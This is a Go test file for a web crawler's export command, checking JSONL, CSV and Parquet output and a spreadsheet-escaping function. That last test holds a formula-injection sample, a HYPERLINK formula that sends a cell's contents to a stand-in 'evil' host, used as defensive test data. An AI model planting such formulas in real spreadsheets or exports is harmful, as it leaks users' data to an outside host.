package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"

	"github.com/freshet/freshet/freshness/change"
	"github.com/freshet/freshet/store"
	"github.com/freshet/freshet/store/local"
	"github.com/freshet/freshet/weburl"
)

// crawled makes a data directory with one visited page that links to another,
// and to one that was never queued.
func crawled(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	s, err := local.Open(filepath.Join(dir, "store"), local.Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	ctx, now := context.Background(), time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)
	u := func(raw string) weburl.URL {
		u, err := weburl.Parse(raw)
		if err != nil {
			t.Fatal(err)
		}
		return u
	}
	a, b, other := u("http://a.example/ą"), u("http://a.example/b"), u("http://other.example/")
	if _, err := s.Add(ctx, []store.Found{{URL: a, Order: 1}}); err != nil {
		t.Fatal(err)
	}
	l, _, err := s.Claim(ctx, "n", now, time.Minute)
	if err != nil || l == nil {
		t.Fatal(l, err)
	}
	pages, err := s.Take(ctx, l, 1, now)
	if err != nil || len(pages) != 1 {
		t.Fatal(pages, err)
	}
	p := pages[0]
	p.State, p.Status, p.Type, p.Bytes = store.OK, 200, "text/html", 1234
	p.Title, p.Lang, p.Digest = `Žąsys, "ir" гуси`, "lt", [16]byte{1}
	p.Slot, p.History = store.Slot{Due: now.Add(time.Hour)}, change.History{Last: now, Changed: now}
	_, err = s.Commit(ctx, l, &store.Batch{
		Host:   l.Host,
		Visits: []store.Visit{{Page: p, Changed: true, Links: []weburl.Key{b.Key(), other.Key()}, Arrived: now, Took: 250 * time.Millisecond}},
		Found:  []store.Found{{URL: b, Depth: 1, From: p.URL, Order: 1}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// exported runs freshet export and returns what it wrote.
func exported(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out := filepath.Join(t.TempDir(), "out")
	var stdout, stderr bytes.Buffer
	args = append([]string{"--data", dir, "export", "-o", out}, args...)
	if code := runArguments(context.Background(), args, strings.NewReader(""), &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// The three formats hold the same rows.
func TestExport(t *testing.T) {
	t.Parallel()
	dir := crawled(t)
	lines := strings.Split(strings.TrimSpace(exported(t, dir, "pages")), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d pages, want 2: %q", len(lines), lines)
	}
	byURL := map[string]pageRow{}
	for _, l := range lines {
		var row pageRow
		if err := json.Unmarshal([]byte(l), &row); err != nil {
			t.Fatalf("%s: %v", l, err)
		}
		byURL[row.URL] = row
	}
	page := byURL["http://a.example/%C4%85"]
	if page.Title != `Žąsys, "ir" гуси` || page.State != "ok" || page.Bytes != 1234 || page.Digest[:2] != "01" || page.ChangesADay <= 0 {
		t.Errorf("page %+v", page)
	}
	if q := byURL["http://a.example/b"]; q.State != "queued" || q.Depth != 1 || q.From != page.URL {
		t.Errorf("queued page %+v", q)
	}

	records, err := csv.NewReader(strings.NewReader(exported(t, dir, "pages", "--format", "csv"))).ReadAll()
	if err != nil || len(records) != 3 || records[0][0] != "url" || len(records[0]) != 25 {
		t.Errorf("csv %q, %v", records, err)
	}
	raw := exported(t, dir, "pages", "--format", "parquet")
	rows, err := parquet.Read[pageRow](strings.NewReader(raw), int64(len(raw)))
	if err != nil || len(rows) != 2 {
		t.Fatalf("parquet %v, %v", rows, err)
	}
	for _, row := range rows {
		if want := byURL[row.URL]; row.Title != want.Title || !row.Visited.Equal(want.Visited) || row.Bytes != want.Bytes {
			t.Errorf("parquet has %+v, jsonl %+v", row, want)
		}
	}
}

func TestExportTables(t *testing.T) {
	t.Parallel()
	dir := crawled(t)
	for what, want := range map[string]string{
		"links":    "from,to\nhttp://a.example/%C4%85,http://a.example/b\n",
		"changes":  "url,time,changed,status,bytes,seconds\nhttp://a.example/%C4%85,2026-06-01T12:00:00Z,true,200,1234,0.25\n",
		"requests": "time,bytes,url\n1780315200,1234,http://a.example/%C4%85\n",
		"files":    "host,path,url,kind,size,modified,seen,title,artist,album,genre,year,seconds,width,height\n",
	} {
		if got := exported(t, dir, what, "--format", "csv"); got != want {
			t.Errorf("%s:\n%swant\n%s", what, got, want)
		}
	}
	if got := exported(t, dir, "changes", "--format", "csv", "--since", "1s"); strings.Count(got, "\n") != 1 {
		t.Errorf("visits of the last second: %s", got)
	}
}

func TestExportErrors(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"export", "pages"}, 1, "nothing was crawled"},
		{[]string{"export", "pages", "--format", "parquet"}, 2, "give --out FILE"},
		{[]string{"export", "nonsense"}, 2, "pages"},
		{[]string{"export", "pages", "-o", "/no/such/folder/x"}, 1, "no such file"},
	} {
		var stdout, stderr bytes.Buffer
		code := runArguments(context.Background(), append([]string{"--data", t.TempDir()}, tt.args...), strings.NewReader(""), &stdout, &stderr)
		if code != tt.code || !strings.Contains(stderr.String(), tt.want) {
			t.Errorf("%q: exit %d, %s", tt.args, code, stderr.String())
		}
	}
}

// A title cannot become a formula in a spreadsheet.
func TestCellText(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A1,"x")`: `'=HYPERLINK("http://evil/?"&A1,"x")`,
		"+1":                                 "'+1", "-1": "'-1", "@SUM(1)": "'@SUM(1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		"": "", "a=b": "a=b", "http://h/": "http://h/", "–": "–",
	} {
		if got := cellText(in); got != want {
			t.Errorf("cellText(%q) = %q, want %q", in, got, want)
		}
	}
}
